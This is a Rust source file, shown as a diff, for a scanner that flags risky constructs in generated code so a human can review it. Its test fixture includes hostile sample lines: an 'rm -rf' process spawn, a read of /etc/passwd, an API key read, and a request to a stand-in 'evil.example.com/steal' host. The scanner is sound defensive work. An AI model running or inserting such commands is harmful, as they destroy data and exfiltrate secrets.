@@ -0,0 +1,284 @@
+use crate::helpers::modules::SourceFile;
+use similar::TextDiff;
+use syn::spanned::Spanned;
+use syn::visit::{self, Visit};
+use std::fmt;
+
+
+// Hosts generated code may always call
+pub const ALLOWED_HOSTS: [&str; 3] = ["localhost", "127.0.0.1", "0.0.0.0"];
+
+// Environment variables generated code may always read
+pub const ALLOWED_ENV_VARS: [&str; 2] = ["PORT", "JWT_SECRET"];
+
+
+// Kinds of risky code a human should look at before running
+#[derive(Debug, Clone, Copy, PartialEq)]
+pub enum FindingKind {
+  ProcessCommand,
+  FileSystem,
+  Network,
+  Unsafe,
+  EnvVar,
+  Unparsed,
+}
+
+
+// Something risky found in generated code
+#[derive(Debug, Clone, PartialEq)]
+pub struct SafetyFinding {
+  pub file: String,
+  pub kind: FindingKind,
+  pub line: usize,
+  pub detail: String,
+}
+
+impl fmt::Display for SafetyFinding {
+  fn fmt(&self, f: &mut fmt::Formatter) -> fmt::Result {
+    match self.file.is_empty() {
+      true => write!(f, "line {}: {:?}: {}", self.line, self.kind, self.detail),
+      false => write!(f, "{} line {}: {:?}: {}", self.file, self.line, self.kind, self.detail)
+    }
+  }
+}
+
+
+// What the human is shown before approving generated code
+#[derive(Debug, Clone, PartialEq)]
+pub struct SafetyReport {
+  pub findings: Vec<SafetyFinding>,
+  pub diff: String,
+}
+
+impl SafetyReport {
+
+  // Scan new source files and diff each against its previous version
+  pub fn new(previous: &[SourceFile], current: &[SourceFile], allowed_hosts: &[String]) -> Self {
+    let mut report: SafetyReport = SafetyReport { findings: vec![], diff: String::new() };
+    for source in current {
+      let previous_code: &str = previous.iter().find(|previous| previous.path == source.path)
+        .map(|previous| previous.code.as_str())
+        .unwrap_or_default();
+      report.diff.push_str(&TextDiff::from_lines(previous_code, &source.code)
+        .unified_diff()
+        .context_radius(3)
+        .header(&format!("previous/{}", source.path), &format!("generated/{}", source.path))
+        .to_string());
+      report.findings.extend(scan_code(&source.code, allowed_hosts).into_iter()
+        .map(|finding| SafetyFinding { file: source.path.clone(), ..finding }));
+    }
+    report
+  }
+}
+
+
+// Walks the syntax tree collecting findings
+struct SafetyVisitor<'a> {
+  allowed_hosts: &'a [String],
+  findings: Vec<SafetyFinding>,
+}
+
+impl SafetyVisitor<'_> {
+  fn flag<S: Spanned>(&mut self, kind: FindingKind, node: &S, detail: String) {
+    let line: usize = node.span().start().line;
+    if !self.findings.iter().any(|finding| finding.kind == kind && finding.line == line) {
+      self.findings.push(SafetyFinding { file: String::new(), kind, line, detail });
+    }
+  }
+}
+
+
+// Path as written, such as "std::process::Command"
+fn path_string(path: &syn::Path) -> String {
+  path.segments.iter().map(|segment| segment.ident.to_string()).collect::<Vec<String>>().join("::")
+}
+
+
+// Confirms whether a path reads an environment variable
+fn is_env_path(path: &str) -> bool {
+  path.starts_with("env::var") || path.contains("::env::var")
+}
+
+
+// Confirms whether a path refers to filesystem access
+fn is_fs_path(path: &str) -> bool {
+  path.starts_with("fs::") || path.contains("::fs::") || path.starts_with("File::") || path.starts_with("OpenOptions")
+}
+
+
+// Host of a url string, if it is one
+fn url_host(text: &str) -> Option<&str> {
+  let rest: &str = text.strip_prefix("http://").or_else(|| text.strip_prefix("https://"))?;
+  let host_port: &str = rest.split(['/', '?', '#']).next()?;
+  Some(host_port.split(':').next().unwrap_or(host_port))
+}
+
+
+impl<'ast> Visit<'ast> for SafetyVisitor<'_> {
+
+  fn visit_path(&mut self, path: &'ast syn::Path) {
+    let path_str: String = path_string(path);
+    if path_str.contains("process::Command") || path_str == "Command::new" {
+      self.flag(FindingKind::ProcessCommand, path, format!("runs external programs via {}", path_str));
+    }
+    if is_env_path(&path_str) || path_str.starts_with("dotenv") {
+      self.flag(FindingKind::EnvVar, path, format!("reads environment via {}", path_str));
+    }
+    if path_str.contains("TcpStream") || path_str.contains("UdpSocket") {
+      self.flag(FindingKind::Network, path, format!("opens raw sockets via {}", path_str));
+    }
+    visit::visit_path(self, path);
+  }
+
+  fn visit_use_path(&mut self, use_path: &'ast syn::UsePath) {
+    let ident: String = use_path.ident.to_string();
+    let is_process: bool = ident == "process" && matches!(&*use_path.tree, syn::UseTree::Name(name) if name.ident == "Command");
+    if is_process {
+      self.flag(FindingKind::ProcessCommand, use_path, "imports std::process::Command".to_string());
+    }
+    visit::visit_use_path(self, use_path);
+  }
+
+  fn visit_expr_call(&mut self, call: &'ast syn::ExprCall) {
+    if let syn::Expr::Path(func) = &*call.func {
+      let path_str: String = path_string(&func.path);
+
+      // Reading an allowed variable is fine, so only look at the arguments
+      let is_allowed_env_var: bool = is_env_path(&path_str) && matches!(call.args.first(),
+        Some(syn::Expr::Lit(syn::ExprLit { lit: syn::Lit::Str(lit), .. })) if ALLOWED_ENV_VARS.contains(&lit.value().as_str()));
+      if is_allowed_env_var {
+        call.args.iter().for_each(|arg| self.visit_expr(arg));
+        return;
+      }
+
+      if is_fs_path(&path_str) {
+        match call.args.first() {
+          Some(syn::Expr::Lit(syn::ExprLit { lit: syn::Lit::Str(lit), .. })) => {
+            let path_arg: String = lit.value();
+            if path_arg.starts_with('/') || path_arg.starts_with('~') || path_arg.split('/').any(|part| part == "..") {
+              self.flag(FindingKind::FileSystem, call, format!("{} outside the working dir: {:?}", path_str, path_arg));
+            }
+          },
+          Some(_) => self.flag(FindingKind::FileSystem, call, format!("{} with a path decided at runtime", path_str)),
+          None => {}
+        }
+      }
+    }
+    visit::visit_expr_call(self, call);
+  }
+
+  fn visit_lit_str(&mut self, lit: &'ast syn::LitStr) {
+    let text: String = lit.value();
+    if let Some(host) = url_host(&text) {
+      let is_allowed: bool = ALLOWED_HOSTS.contains(&host) || self.allowed_hosts.iter().any(|allowed| allowed == host);
+      if !is_allowed {
+        self.flag(FindingKind::Network, lit, format!("calls host not on the allowlist: {}", host));
+      }
+    }
+  }
+
+  fn visit_expr_unsafe(&mut self, block: &'ast syn::ExprUnsafe) {
+    self.flag(FindingKind::Unsafe, block, "unsafe block".to_string());
+    visit::visit_expr_unsafe(self, block);
+  }
+
+  fn visit_signature(&mut self, sig: &'ast syn::Signature) {
+    if sig.unsafety.is_some() {
+      self.flag(FindingKind::Unsafe, sig, format!("unsafe fn {}", sig.ident));
+    }
+    visit::visit_signature(self, sig);
+  }
+
+  fn visit_item_impl(&mut self, item: &'ast syn::ItemImpl) {
+    if item.unsafety.is_some() {
+      self.flag(FindingKind::Unsafe, item, "unsafe impl".to_string());
+    }
+    visit::visit_item_impl(self, item);
+  }
+}
+
+
+// Host names from urls such as the factsheet's external urls
+pub fn hosts_from_urls(urls: &[String]) -> Vec<String> {
+  urls.iter().filter_map(|url| url_host(url)).map(String::from).collect()
+}
+
+
+// Flags risky code in a generated rust file, ordered by line
+pub fn scan_code(code: &str, allowed_hosts: &[String]) -> Vec<SafetyFinding> {
+  let file: syn::File = match syn::parse_file(code) {
+    Ok(file) => file,
+    Err(e) => return vec![SafetyFinding {
+      file: String::new(),
+      kind: FindingKind::Unparsed,
+      line: e.span().start().line,
+      detail: format!("could not be parsed so was not scanned: {}", e)
+    }]
+  };
+  let mut visitor: SafetyVisitor = SafetyVisitor { allowed_hosts, findings: vec![] };
+  visitor.visit_file(&file);
+  visitor.findings.sort_by_key(|finding| finding.line);
+  visitor.findings
+}
+
+
+
+#[cfg(test)]
+pub mod tests {
+  use super::*;
+  use crate::helpers::auth::AUTH_MODULE_CODE;
+  use crate::helpers::storage::StorageProfile;
+
+  #[test]
+  fn passes_code_template() {
+    for storage in [StorageProfile::Json, StorageProfile::Sqlite, StorageProfile::Sled] {
+      assert_eq!(scan_code(storage.code_template(), &[]), vec![]);
+    }
+    assert_eq!(scan_code(AUTH_MODULE_CODE, &[]), vec![]);
+  }
+
+  #[test]
+  fn flags_risky_code() {
+    let code: &str = r#"
+use std::process::Command;
+use std::fs;
+
+fn main() {
+  let key = std::env::var("API_KEY").unwrap();
+  let port = std::env::var("PORT").unwrap();
+  Command::new("rm").arg("-rf").spawn().unwrap();
+  fs::read_to_string("/etc/passwd").unwrap();
+  fs::write(key.clone(), "data").unwrap();
+  fs::write("database.json", "[]").unwrap();
+  let _ = reqwest::get("https://evil.example.com/steal");
+  let _ = reqwest::get("https://api.timezonedb.com/v2");
+  unsafe { libc::getpid(); }
+}
+"#;
+    let allowed_hosts: Vec<String> = hosts_from_urls(&["https://api.timezonedb.com/v2.1/list-time-zone".to_string()]);
+    let kinds: Vec<(usize, FindingKind)> = scan_code(code, &allowed_hosts).iter()
+      .map(|finding| (finding.line, finding.kind)).collect();
+    assert_eq!(kinds, vec![
+      (2, FindingKind::ProcessCommand),
+      (6, FindingKind::EnvVar),
+      (8, FindingKind::ProcessCommand),
+      (9, FindingKind::FileSystem),
+      (10, FindingKind::FileSystem),
+      (12, FindingKind::Network),
+      (14, FindingKind::Unsafe),
+    ]);
+  }
+
+  #[test]
+  fn reports_diff_and_unparsed_code() {
+    let source = |path: &str, code: &str| SourceFile { path: path.to_string(), code: code.to_string() };
+    let previous: Vec<SourceFile> = vec![source("src/main.rs", "fn main() {\n}\n")];
+    let current: Vec<SourceFile> = vec![source("src/main.rs", "mod db;\nfn main() {\n}\n"), source("src/db.rs", "fn load() {\n  loop {\n}\n")];
+    let report: SafetyReport = SafetyReport::new(&previous, &current, &[]);
+    assert!(report.diff.contains("+++ generated/src/main.rs"));
+    assert!(report.diff.contains("+  loop {"));
+    assert_eq!(report.findings.len(), 1);
+    assert_eq!(report.findings[0].kind, FindingKind::Unparsed);
+    assert!(report.findings[0].to_string().starts_with("src/db.rs line 1: Unparsed"));
+  }
+}